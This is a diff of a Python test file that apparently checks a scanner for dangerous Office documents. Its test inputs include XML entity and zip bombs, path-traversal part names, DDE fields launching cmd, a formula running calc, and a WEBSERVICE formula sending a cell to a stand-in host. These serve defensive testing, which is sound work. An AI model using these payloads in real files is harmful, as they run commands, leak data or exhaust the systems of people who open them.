@@ -89,23 +89,9 @@ def flagged() -> bytes:
     return bytes(good)
 
 
-def cases() -> dict[str, tuple[bytes, str]]:
-    """Each case with the code of its reason."""
-    bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
-    many = docx_parts() | {f"word/media/image{number}.png": b"x" for number in range(4000)}
-    good = samples.docx()
+def acting() -> dict[str, tuple[bytes, str]]:
+    """What runs, embeds or reaches out."""
     return {
-        "docx that unpacks to a hundredfold": (
-            with_part("word/media/a.png", bytes(120_000_000)),
-            "bomb",
-        ),
-        "docx of four thousand parts": (zipped(many), "bomb"),
-        "docx with overlapping parts": (overlapping(), "bomb"),
-        "docx with entities": (with_part("word/styles.xml", bomb), "bomb"),
-        "docx with an archive inside": (
-            with_part("word/media/image2.png", samples.docx()),
-            "reaching",
-        ),
         "docx with macros": (with_part("word/vbaProject.bin"), "reaching"),
         "docx of a kind with macros": (
             types("document.main+xml", "document.macroEnabled.main+xml"),
@@ -132,6 +118,28 @@ def cases() -> dict[str, tuple[bytes, str]]:
         "docx with DDE in pieces": (docx(field("DD", "EAUTO c:\\\\cmd", ".exe")), "reaching"),
         "docx with DDE in a simple field": (docx('<w:fldSimple w:instr=" DDE cmd "/>'), "reaching"),
         "docx with a text fetched": (docx(field(' INCLUDETEXT "http://e.org"')), "reaching"),
+        "xlsx that calls a program": (sheet("=cmd|'/c calc'!A0"), "reaching"),
+        "xlsx that asks a server": (sheet('=WEBSERVICE("https://e.org/"&A1)'), "reaching"),
+    }
+
+
+def cases() -> dict[str, tuple[bytes, str]]:
+    """Each case with the code of its reason."""
+    bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
+    many = docx_parts() | {f"word/media/image{number}.png": b"x" for number in range(4000)}
+    good = samples.docx()
+    return acting() | {
+        "docx that unpacks to a hundredfold": (
+            with_part("word/media/a.png", bytes(120_000_000)),
+            "bomb",
+        ),
+        "docx of four thousand parts": (zipped(many), "bomb"),
+        "docx with overlapping parts": (overlapping(), "bomb"),
+        "docx with entities": (with_part("word/styles.xml", bomb), "bomb"),
+        "docx with an archive inside": (
+            with_part("word/media/image2.png", samples.docx()),
+            "reaching",
+        ),
         "docx with a way out of its folder": (with_part("../../evil.xml", "<a/>"), "damaged"),
         "docx with an absolute part": (with_part("/etc/evil.xml", "<a/>"), "damaged"),
         "docx with two main parts": (twice(), "damaged"),
@@ -150,8 +158,6 @@ def cases() -> dict[str, tuple[bytes, str]]:
             with_part("word/styles.xml", b"<a>" + MARKER + b"</a>"),
             "marker",
         ),
-        "xlsx that calls a program": (sheet("=cmd|'/c calc'!A0"), "reaching"),
-        "xlsx that asks a server": (sheet('=WEBSERVICE("https://e.org/"&A1)'), "reaching"),
         "xlsx linked to another": (
             zipped({"xl/workbook.xml": "<a/>", TYPES: "<a/>", "xl/externalLinks/e.xml": "<a/>"}),
             "damaged",
